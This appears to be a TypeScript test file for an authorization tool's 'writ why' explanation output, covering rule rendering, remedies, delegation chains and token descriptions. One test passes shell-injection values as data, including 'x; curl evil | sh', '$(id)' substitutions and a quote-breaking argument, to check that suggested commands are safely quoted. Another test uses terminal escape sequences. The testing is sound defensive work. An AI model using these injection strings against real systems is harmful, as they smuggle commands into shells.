import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import type { ClauseResult, RuleResult } from '../policy/index.ts'
import type { Members } from './explanation.ts'
import { describeDecision, describeRules, describeToken } from './explanation.ts'

const place = { line: 12, column: 1, endLine: 12, endColumn: 9 }
const clause = (
  text: string,
  status: ClauseResult['status'],
  more: Partial<ClauseResult> = {},
): ClauseResult => ({
  kind: 'when',
  text,
  ...place,
  status,
  actual: [],
  ...more,
})
const amount = clause('context.amount <= 100', 'fails', {
  actual: [{ path: 'context.amount', value: 180 }],
  required: { path: 'context.amount', operator: '<=', value: 100 },
})
const approval = clause('context.proof.approvals.oncall >= 1', 'fails', {
  actual: [{ path: 'context.proof.approvals.oncall', value: 0 }],
  required: { path: 'context.proof.approvals.oncall', operator: '>=', value: 1 },
})
const task = clause('context.live  has\n task', 'holds', {
  actual: [{ path: 'context.live.task', value: { id: 'task_88' } }],
})
const rule = (clauses: readonly ClauseResult[], more: Partial<RuleResult> = {}): RuleResult => ({
  policy: 'small refunds',
  file: 'refunds.cedar',
  line: 12,
  effect: 'permit',
  clauses,
  ...more,
})
const explained = (more: Members = {}): Members => ({
  determining: [],
  fired: [],
  nearest: [rule([task, clause('a || b', 'fails', { any: [amount, approval], actual: [...amount.actual] })])],
  inScope: 3,
  ...more,
})
const entry = (more: Members = {}): Members => ({
  id: 'dec_01',
  outcome: 'challenge',
  reason: 'evidence_required',
  policy: '4f2a9c0011223344',
  says: 'deny',
  attempt: {
    subject: { type: 'Agent', id: 'triage' },
    action: { name: 'payments:refund' },
    resource: { type: 'Account', id: '7' },
    context: {},
    task: 'task_88',
  },
  alternatives: [{ requirements: [{ kind: 'approval', pool: 'oncall', count: 1 }], binding: 'attempt' }],
  ...more,
})

describe('writ why', () => {
  test('tells who, what, the nearest rule, what would allow it and what would not', () => {
    const sure = rule([
      clause('resource.tier == "gold"', 'holds', { actual: [{ path: 'resource.tier', value: 'gold' }] }),
      task,
      clause('a || b', 'fails', { any: [amount, approval], actual: [...amount.actual, ...approval.actual] }),
    ])
    assert.deepEqual(describeDecision(entry(), explained({ nearest: [sure] })), [
      'CHALLENGE  evidence_required  dec_01  policy set 4f2a9c001122',
      'Agent/triage → payments:refund on Account/7 (tier: gold)   for task_88',
      'Nearest rule: refunds.cedar:12 "small refunds"',
      '  ✓ resource.tier = "gold"      ✓ live has task',
      '  ✗ amount ≤ 100 (is 180)  OR  approvals by oncall ≥ 1 (none)',
      'Any ONE would allow it:',
      '  a) amount ≤ 100            → runs now',
      '  b) one approval by oncall  → writ request payments:refund --on Account/7 --task task_88',
      'Would NOT help: retrying as it is, a longer ttl.',
      'No forbid rule applies.',
    ])
  })

  test('says that the caller could change something only where nothing else is in the way', () => {
    const lines = (clauses: readonly ClauseResult[], more: Members = {}): string =>
      describeDecision(
        entry({ outcome: 'deny', alternatives: undefined }),
        explained({ nearest: [rule(clauses)], ...more }),
      ).join('\n')
    assert.match(lines([amount]), /This would allow it:\n {2}amount ≤ 100 {2}→ runs now/)
    assert.doesNotMatch(lines([amount, approval]), /runs now/)
    assert.doesNotMatch(lines([amount], { fired: [rule([task], { effect: 'forbid' })] }), /runs now/)
    assert.doesNotMatch(
      lines([clause('context.live.x == 1', 'fails', { actual: [{ path: 'context.live.x', value: 2 }] })]),
      /runs now/,
    )
    assert.doesNotMatch(
      lines([clause('context.x == 1', 'unknown', { actual: [{ path: 'context.x', unknown: true }] })]),
      /runs now/,
    )
  })

  test('tells what is unknown, absent and failed, each with its sign', () => {
    const lines = describeRules(
      explained({
        nearest: [
          rule([
            clause('context.live.risk < 3', 'unknown', {
              actual: [{ path: 'context.live.risk', unknown: true }],
              required: { path: 'context.live.risk', operator: '<', value: 3 },
            }),
            clause('principal has badge', 'fails', {
              actual: [{ path: 'principal.badge' }],
              required: { path: 'principal.badge', operator: 'has' },
            }),
            clause('resource.size + 1 > 2', 'errors', { message: 'integer overflow' }),
            clause('resource.name like "a==b*"', 'fails', { kind: 'unless' }),
          ]),
          rule([amount], { policy: 'other', line: 30 }),
        ],
      }),
      entry(),
    )
    assert.deepEqual(lines, [
      'Nearest rule: refunds.cedar:12 "small refunds"',
      '  ? live.risk < 3 (unknown)',
      '  ✗ principal has badge (absent)',
      '  ! resource.size + 1 > 2 · integer overflow',
      '  ✗ unless resource.name like "a==b*"',
      '  also near: refunds.cedar:30 "other", with 1 in the way',
      'No forbid rule applies.',
    ])
  })

  test('of rules that are as near, the one that evidence would meet is told of first', () => {
    const nearest = [rule([amount], { policy: 'small' }), rule([approval], { policy: 'large' })]
    const first = (more: Members): string | undefined => describeRules(explained({ nearest }), entry(more))[0]
    assert.equal(first({}), 'Nearest rule: refunds.cedar:12 "large"')
    assert.equal(first({ alternatives: undefined }), 'Nearest rule: refunds.cedar:12 "small"')
  })

  test('of a forbid with many exceptions, told is what kept it from being excepted', () => {
    const part = (text: string, status: 'holds' | 'fails', more: Partial<ClauseResult> = {}): ClauseResult =>
      clause(text, status, { kind: 'unless', ...more })
    const unless = part('resource.a && resource has b && resource.n > 0', 'holds', {
      any: [
        part('resource.a', 'fails'),
        part('resource has b', 'holds', {
          actual: [{ path: 'resource.b' }],
          required: { path: 'resource.b', operator: 'has' },
        }),
        part('resource.n > 0', 'holds', {
          actual: [{ path: 'resource.n', value: 0 }],
          required: { path: 'resource.n', operator: '<=', value: 0 },
        }),
      ],
    })
    assert.deepEqual(
      describeRules(explained({ nearest: [], fired: [rule([unless], { effect: 'forbid' })] }), entry()),
      [
        'Forbidden by: refunds.cedar:12 "small refunds"',
        '  • unless resource has b (absent)',
        '  • resource.n ≤ 0 (is 0)',
      ],
    )
  })

  test('names the forbid that fired, and what made it fire', () => {
    const fired = rule(
      [clause('resource.tier == "gold"', 'holds', { actual: [{ path: 'resource.tier', value: 'gold' }] })],
      {
        policy: 'no gold',
        effect: 'forbid',
      },
    )
    const denied = entry({ outcome: 'deny', reason: 'policy_denied', alternatives: undefined })
    assert.deepEqual(describeDecision(denied, explained({ nearest: [], fired: [fired] })).slice(2), [
      'No remedy is known.',
      'Would NOT help: retrying as it is, a longer ttl, any approval: the forbid rule asks for none.',
      'Forbidden by: refunds.cedar:12 "no gold"',
      '  • resource.tier = "gold" (is gold)',
    ])
  })

  test('shows a requester remedies and nothing of rules; every denial says whether there is one', () => {
    const requester = { ...entry(), policy: undefined, says: undefined }
    assert.deepEqual(describeDecision(requester, undefined), [
      'CHALLENGE  evidence_required  dec_01',
      'Agent/triage → payments:refund on Account/7   for task_88',
      'This would allow it:',
      '  one approval by oncall  → writ request payments:refund --on Account/7 --task task_88',
    ])
    const denied = { ...requester, outcome: 'deny', reason: 'task_ended', alternatives: undefined }
    assert.deepEqual(describeDecision(denied, undefined).slice(2), [
      'No remedy is known: its task has ended (task_ended)',
    ])
  })

  test('a rule that wants a task says how one is started', () => {
    const { task: _task, ...attempt } = entry()['attempt'] as Members
    const missing = clause('context.live has task', 'fails', { actual: [{ path: 'context.live.task' }] })
    const denied = entry({ outcome: 'deny', reason: 'policy_denied', alternatives: undefined, attempt })
    const lines = describeDecision(denied, explained({ nearest: [rule([missing, approval])] })).join('\n')
    assert.match(
      lines,
      /It wants a task: writ task start --purpose … --action payments:refund --on Account\/7/,
    )
  })

  test('B24 a command that is copied does nothing else, whatever was tried', () => {
    const tried = (name: string, id: string, under: string): Members => ({
      subject: { type: 'Agent', id: 'triage' },
      action: { name },
      resource: { type: 'Account', id },
      context: {},
      task: under,
    })
    const asked = (attempt: Members): string =>
      describeDecision(entry({ attempt }), undefined).find((line) => line.includes('writ request')) ?? ''
    assert.match(
      asked(tried('refund:all', '7/a b', 'task_88')),
      /writ request refund:all --on 'Account\/7\/a b' --task task_88/,
    )
    assert.match(
      asked(tried('x; curl evil | sh', '$(id)`id`', "t' --task 'u")),
      /writ request 'x; curl evil \| sh' --on 'Account\/\$\(id\)`id`' --task 't'\\'' --task '\\''u'$/,
    )
    assert.match(asked(tried('--all', '7', '-x')), /writ request … --on Account\/7 --task …$/)
    const wanted = describeDecision(
      entry({ outcome: 'deny', alternatives: [], attempt: { ...tried('a&b', '#7', 'x'), task: undefined } }),
      explained({
        nearest: [
          rule([
            clause('context.live has task', 'fails', {
              actual: [{ path: 'context.live.task' }],
              required: { path: 'context.live.task', operator: 'has' },
            }),
          ]),
        ],
      }),
    )
    assert.ok(
      wanted.some((line) => line.includes("--action 'a&b' --on 'Account/#7' --reason")),
      wanted.join('\n'),
    )
  })

  test('B24 nothing that others wrote moves the cursor, and lines fit where they can', () => {
    const long = clause(`context.note == "${'word '.repeat(60)}\u001B[2J"`, 'fails', {
      actual: [{ path: 'context.note', value: `\u001B[31m${'x'.repeat(500)}` }],
    })
    const odd = {
      nearest: [rule([long, long], { policy: '\u001B]0;x', file: 'a\nb' })],
      fired: 'no list',
      determining: 7,
    }
    for (const columns of [40, 80, 0]) {
      const lines = describeDecision(entry({ at: 'never' }), explained(odd), { columns })
      assert.doesNotMatch(lines.join(''), /[\u0000-\u001F]/u)
      // a command stays in one piece, to be copied
      for (const line of lines.slice(2).filter((it) => !it.includes('→ writ')))
        assert.ok(line.length <= (columns || 100) || !line.slice(6, columns || 100).includes(' '), line)
    }
    assert.ok(describeDecision({}, {}).length > 0)
  })
})

describe('who asked', () => {
  const chain = [
    { type: 'Agent', id: 'helper' },
    { type: 'Person', id: 'grace' },
  ]
  const entry: Members = {
    id: 'dec_1',
    outcome: 'deny',
    reason: 'policy_denied',
    attempt: { subject: chain[0], action: { name: 'stow' }, resource: chain[0], chain, delegation: 'dlg_1' },
    instigators: [{ issuer: 'github', id: '31415' }],
    unresolved: true,
    facts: { workload: { issuer: 'github', repository_id: '456', claims: ['team=payments'] } },
  }
  const line = (at: Members, wanted: RegExp): string =>
    describeDecision(at, undefined, { columns: 50 }).find((one) => wanted.test(one)) ?? ''

  test('is told with the chain, the delegation, what was proved, and who set it going', () => {
    assert.equal(line(entry, /^for /), 'for Person/grace, under dlg_1')
    assert.equal(line(entry, /^set going/), 'set going by account 31415 at github')
    assert.equal(line(entry, /^proved/), 'proved by issuer github: repository_id 456,')
    assert.equal(line(entry, /team/), '  team=payments')
  })
  test('says why no approval counts, and how it would', () => {
    assert.match(line(entry, /no approval counts/), /an administrator links the account:$/)
    assert.equal(line(entry, /accounts link/), '  `writ accounts link 31415 --issuer github --person …`')
    assert.match(
      line({ ...entry, instigators: [] }, /no approval counts/),
      /give it an owner in the inventory$/,
    )
    assert.equal(line({ ...entry, unresolved: false }, /no approval counts/), '')
  })
  test('what makes somebody risky is listed with its points', () => {
    const risk = { level: 1, score: 50, contributions: ['device not compliant +30', 'third party +20'] }
    const entry = { attempt: {}, facts_of: { 'Agent/migrator': { risk }, 'Person/ada': 3 } }
    assert.match(
      describeDecision(entry, undefined).join('\n'),
      /risk 50 of Agent\/migrator: device not compliant \+30, third party \+20/u,
    )
  })
  test('a token is told by what was proved of each party, whatever the entry holds', () => {
    const told = describeToken({
      at: 0,
      ends_at: 300_000,
      token: 'tok_1',
      chain: ['Agent/helper', 'Person/grace'],
      audience: 'Api/ledger',
      scope: ['read'],
      details: [{ action: 'post', resource: { type: 'Api', id: 'ledger' } }],
      proofs: [
        { chain: ['Agent/helper'], issuer: 'github', jti: 'j', workload: { issuer: 'github', ref: 'r' } },
        { chain: ['Person/grace'], token: 'tok_0' },
        { chain: ['Service/web'], client: 'web' },
      ],
      parents: ['tok_0'],
      grants: ['grant_1'],
    })
    assert.deepEqual(told, [
      'TOKEN  tok_1',
      'Agent/helper → read, post on Api/ledger at Api/ledger',
      'issued 1970-01-01T00:00:00Z, ends 1970-01-01T00:05:00Z',
      'for Person/grace',
      'Agent/helper proved by issuer github (j): ref r',
      'Person/grace proved by token tok_0',
      'Service/web proved by a key of client web',
      'bound to no key',
      'lives no longer than grant_1',
      'exchanged for tok_0',
    ])
    assert.equal(describeToken({ proofs: 3, chain: null, scope: {} })[1], '? → signing in at ')
  })
})
